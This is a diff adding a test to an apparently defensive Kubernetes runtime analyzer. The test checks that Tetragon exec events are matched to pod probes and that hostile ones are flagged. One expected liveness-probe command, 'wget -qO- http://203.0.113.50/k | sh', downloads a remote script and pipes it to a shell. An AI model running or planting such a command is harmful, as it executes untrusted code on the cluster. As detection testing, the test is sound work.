@@ -258,6 +258,33 @@ describe('ingest', () => {
   });
 });
 
+describe('kubelet execs', () => {
+  it("matches Tetragon execs to the pod's exec probes by pod, container and command line, and says how many it left out", async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'cf-runtime-'));
+    dirs.push(dir);
+    for (const name of ['tetragon-probes.jsonl', 'tetragon-probe-abuse.jsonl', 'probe-pods.json']) writeFileSync(join(dir, name), fixture(name));
+    const result = await analyze([dir], { write: false, rules: [], keepDb: true });
+    const db = result.db!.sql;
+    const execs = db.prepare('select purpose, program, arguments, hostile_patterns is not null as hostile from k8s_container_execs order by purpose, arguments').all();
+    expect(execs).toEqual([
+      { purpose: 'livenessProbe', program: 'sh', arguments: '-c pg_isready -U postgres -h 127.0.0.1 -p 5432', hostile: 0 },
+      { purpose: 'livenessProbe', program: 'sh', arguments: '-c wget -qO- http://203.0.113.50/k | sh', hostile: 1 },
+      { purpose: 'readinessProbe', program: 'sh', arguments: '-c pg_isready -U postgres -h 127.0.0.1 -p 5432', hostile: 0 },
+    ]);
+    const matched = db
+      .prepare('select distinct e.locator, e.pod, k.hostile_patterns is not null as hostile from runtime_kubelet_execs k join runtime_events e on e.id = k.event_id join files f on f.id = e.file_id order by f.path, e.locator')
+      .all();
+    expect(matched).toEqual([
+      { locator: 'line 2', pod: 'cache-5c8d7f9b6-qz4kt', hostile: 1 },
+      { locator: 'line 1', pod: 'db-0', hostile: 0 },
+      { locator: 'line 2', pod: 'db-0', hostile: 0 },
+    ]);
+    const appendix = result.markdown.slice(result.markdown.indexOf('## Runtime events'));
+    expect(appendix).toMatch(/\| tetragon \| tetragon-probes\.jsonl \| 2 \| [^|]+ \| 2 \| 2 \| 0 \|/);
+    expect(appendix).toMatch(/\| tetragon \| tetragon-probe-abuse\.jsonl \| 2 \| [^|]+ \| 2 \| 0 \| 0 \|/);
+  });
+});
+
 describe('rules across several inputs', () => {
   it('reports the bundle without eBPF evidence, not the one with it', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'cf-runtime-'));
